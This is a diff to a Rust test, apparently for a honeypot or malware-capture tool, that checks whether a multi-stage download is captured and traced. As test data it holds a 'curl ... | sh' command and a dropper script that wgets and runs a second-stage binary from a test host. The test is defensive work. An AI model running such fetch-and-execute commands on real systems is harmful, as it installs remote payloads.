@@ -281,6 +281,29 @@ fn http_and_https_fetched_stored_once_then_cached_and_capped() {
         std::fs::read_to_string(&log).unwrap()
     );
     assert_eq!(stored_files(&d).len(), 2);
+
+    // A fetched script is analysed in turn: the file it fetches is downloaded too,
+    // with the script as its source.
+    let script = format!("#!/bin/sh\ncd /tmp\nwget http://{at}:8000/stage2.bin -O s2\n./s2\n");
+    write(files.path(), "bins.sh", script.as_bytes());
+    let stage2 = content(3_000, 9);
+    write(files.path(), "stage2.bin", &stage2);
+    let e3 = attack(
+        &net,
+        &d,
+        &format!("curl -s http://{at}:8000/bins.sh | sh\n"),
+    );
+    let ds3 = downloads(&e3);
+    assert_eq!(ds3.len(), 2, "{ds3:#?}");
+    assert_fetched(
+        &d,
+        by_url(&ds3, &format!("http://{at}:8000/bins.sh")),
+        script.as_bytes(),
+    );
+    let s2 = by_url(&ds3, &format!("http://{at}:8000/stage2.bin"));
+    assert_fetched(&d, s2, &stage2);
+    assert_eq!(s2["source"]["kind"], "download");
+    assert_eq!(s2["source"]["sha256"], sha256(script.as_bytes()).as_str());
 }
 
 #[test]
